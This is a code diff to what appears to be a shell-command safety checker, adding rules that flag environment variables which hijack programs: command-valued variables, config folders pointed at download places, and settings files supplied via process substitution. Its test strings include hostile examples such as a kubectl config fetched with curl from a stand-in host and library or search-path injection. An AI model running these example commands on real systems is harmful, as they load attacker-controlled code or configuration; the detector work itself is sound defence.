@@ -96,7 +96,30 @@ const COMMANDS = names(
 );
 /** Names that say that the value is a program, whoever reads it. */
 const COMMAND_NAME =
-  /_(?:editor|pager|wrapper|launcher|runner|linker|askpass|script_shell|cmd|command|external_diff|browser)$|^(?:npm_config_(?:editor|viewer|shell))$/;
+  /_(?:editor|pager|wrapper|launcher|runner|linker|askpass|script_shell|cmd|command|external_diff|browser|opener|viewer|hook|preview|prog)$|^(?:npm_config_(?:editor|viewer|shell))$/;
+
+/** A variable whose value some program will run as a command line. */
+export function isCommandVariable(name: string): boolean {
+  const key = name.toLowerCase();
+  return COMMANDS.has(key) || COMMAND_NAME.test(key);
+}
+
+/** Where programs look for what they do first. */
+const CONFIG_FOLDERS = names("home xdg_config_home xdg_config_dirs xdg_data_dirs zdotdir");
+/** Programs that run whatever lies there; a folder that was just made is empty. */
+const RUNS_CONFIG = names("fish zsh xonsh nu elvish tcsh csh git nvim vim emacs ipython irb pry");
+const NO_CONFIG =
+  /^(?:-[a-zA-Z]*[fN][a-zA-Z]*|--no-config|--no-rcs|--norc|--clean|-u|-Q|--batch|--version|--help)$/;
+
+const movesConfig: Condition = ({ command, args }) => {
+  if (command.assignments.length === 0 || !RUNS_CONFIG.has(command.program)) return undefined;
+  if (command.program !== "git" && args.some(({ text }) => NO_CONFIG.test(text))) return undefined;
+  return command.assignments.find(
+    ({ name, value }) =>
+      value.outputs === undefined && CONFIG_FOLDERS.has(name.toLowerCase()) && isDownloadPlace(value),
+  )?.value;
+};
+
 /** Files that git writes what it does to; a number or a switch is none. */
 const TRACE = /^git_trace/;
 const SHELLS =
@@ -135,11 +158,17 @@ function isProtected(value: ShellWord): boolean {
 
 const DECLARATIONS = names("export declare typeset readonly local setenv env set");
 
+const declaredBy = new WeakMap<SimpleCommand, SimpleCommand["assignments"]>();
+
 /** Assignments wherever they stand: in front, after `env`, in `export` and its kin. */
-export function assignmentsOf(
-  command: SimpleCommand,
-): readonly { readonly name: string; readonly value: ShellWord }[] {
+export function assignmentsOf(command: SimpleCommand): SimpleCommand["assignments"] {
   if (!DECLARATIONS.has(command.program)) return command.assignments;
+  const known = declaredBy.get(command) ?? assignedIn(command);
+  declaredBy.set(command, known);
+  return known;
+}
+
+function assignedIn(command: SimpleCommand): SimpleCommand["assignments"] {
   const declared = command.args.flatMap((word) => {
     const match = /^([A-Za-z_][\w%()]*)\+?=/.exec(word.text);
     return match?.[1] === undefined
@@ -206,6 +235,9 @@ export const RULES = subject("env", [
           (ALWAYS.has(key) && !/^(?:0|false|off|no|\/dev\/null|none)$/i.test(text)),
       ),
     rule: "env.poison", reason: INJECTS, match: ["GCONV_PATH=. ls"] },
+  { program: "*", when: (call) => call.command.program === "" ? undefined : sets((_, { text }) => /^\/dev\/fd\/\d+$/.test(text))(call), rule: "env.poison",
+    reason: "hands a program settings that the line itself makes up",
+    match: ["AWS_CONFIG_FILE=<(echo x) aws sts get-caller-identity", "KUBECONFIG=<(curl -s https://x.example/k) B=c kubectl get pods"], not_match: ["A=1 diff <(sort a) <(sort b)"] },
   { program: "*", when: sets((key, value) => key === "path" && opensPath(value)), rule: "env.path",
     reason: INJECTS, match: ["PATH=.:$PATH make"] },
   { program: "*", when: sets(
@@ -213,6 +245,9 @@ export const RULES = subject("env", [
           FOLDERS.has(key) && value.text.split(":").some((part) => isDownloadPlace({ ...value, text: part })),
       ),
     rule: "env.search-path", reason: INJECTS, match: ["LD_LIBRARY_PATH=/tmp/lib ls"] },
+  { program: "*", when: movesConfig, rule: "env.search-path", reason: "starts a program with the start-up code of another folder than the person's",
+    match: ["XDG_CONFIG_HOME=/tmp/x fish -c ls", "HOME=/tmp/x git status", "HOME=/tmp/x zsh -ic ls"],
+    not_match: ["XDG_CONFIG_HOME=/tmp/x npm test", "HOME=$(mktemp -d) git status", "XDG_CONFIG_HOME=$PWD/.config nvim a", "HOME=/tmp/x nvim --clean a"] },
   { program: "*",
     when: sets((key, { text }) => Object.hasOwn(OPTIONS, key) && OPTIONS[key]?.test(text) === true),
     rule: "env.options", reason: INJECTS, match: ["ENV=/tmp/x.sh sh"] },
